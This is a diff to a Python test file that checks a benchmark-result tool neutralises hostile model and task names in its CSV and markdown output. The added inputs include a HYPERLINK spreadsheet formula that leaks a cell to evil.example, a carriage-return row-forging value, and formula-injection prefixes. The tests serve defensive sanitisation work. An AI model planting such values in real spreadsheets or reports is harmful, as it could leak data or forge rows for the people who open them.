@@ -126,7 +126,11 @@ def _one_run_manifest(tmp_path: Path, columns: dict[str, str], logs: bool = True
 
 
 # A model name is the submitter's text: a spreadsheet formula, HTML, a link and a ping in one.
-HOSTILE_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open") <img src=x> @octocat [x](https://evil.example) a|b'
+HOSTILE_MODEL = ('=HYPERLINK("https://evil.example/?"&A1,"open") <img src=x> @octocat [x](https://evil.example) '
+                 'a|b x_www.evil.example ~~struck~~')
+# A task name is too; with a lone CR in it, a CSV written with "\n" line ends left the field unquoted, and a
+# spreadsheet (and Python's csv) took the CR for the end of the row: "=1+2" began a forged row.
+HOSTILE_TASK = "t\r=1+2"
 
 
 def test_a_submitters_model_name_is_inert_in_the_csv_and_the_summary(tmp_path):
@@ -136,26 +140,31 @@ def test_a_submitters_model_name_is_inert_in_the_csv_and_the_summary(tmp_path):
     results = next((tmp_path / "runs").glob("*/results_*.json"))
     data = json.loads(results.read_text(encoding="utf-8"))
     data["model_name"] = HOSTILE_MODEL
+    data["results"][HOSTILE_TASK] = {"alias": "t", "acc,none": 0.5}
     results.write_text(json.dumps(data), encoding="utf-8")
     result = lbnorm("survey", str(manifest), "--out", str(tmp_path / "out"), "--published-scale", "100",
                     "--no-plots")
     assert result.returncode == 1 and "1 published scores not reproduced" in result.stdout, result.stdout
-    assert {row["model"] for row in read_jsonl(tmp_path / "out" / "survey.jsonl")} == {HOSTILE_MODEL}
+    rows = read_jsonl(tmp_path / "out" / "survey.jsonl")
+    assert {row["model"] for row in rows} == {HOSTILE_MODEL} and HOSTILE_TASK in {row["task"] for row in rows}
     with open(tmp_path / "out" / "survey.csv", encoding="utf-8", newline="") as handle:
-        cells = {row["model"] for row in csv.DictReader(handle)}
-    assert cells == {"'" + HOSTILE_MODEL}
+        table = list(csv.DictReader(handle))
+    assert [(cells["run"], cells["task"]) for cells in table] == [(row["run"], row["task"]) for row in rows]
+    assert {cells["model"] for cells in table} == {"'" + HOSTILE_MODEL}
     summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
     lines = [line for line in summary.splitlines() if "HYPERLINK" in line]
     assert len(lines) == 2  # the published number not reproduced, and the run's DROP numbers
     for line in lines:
-        for bait in ("<img", "https://", "@octocat", "[x](", "a|b"):
+        for bait in ("<img", "https://", "@octocat", "[x](", "a|b", "www.evil", "~~"):
             assert bait not in line
         assert "a\\|b" in line  # the name's '|' does not end its cell
 
 
 @pytest.mark.parametrize("text, cell", [
     ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("org/model-7b", "org/model-7b"), ("a=b", "a=b"), ("", ""),
+    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"), ("\ufeff=1", "'\ufeff=1"),
+    ("\u200b\u00a0@x", "'\u200b\u00a0@x"), ("\tmodel", "'\tmodel"), ("\x00", "'\x00"),
+    ("org/model-7b", "org/model-7b"), ("a=b", "a=b"), (" model", " model"), ("", ""),
 ])
 def test_a_spreadsheet_runs_no_text_cell_of_the_csv(text, cell):
     from validator.io.safe_text import spreadsheet_cell
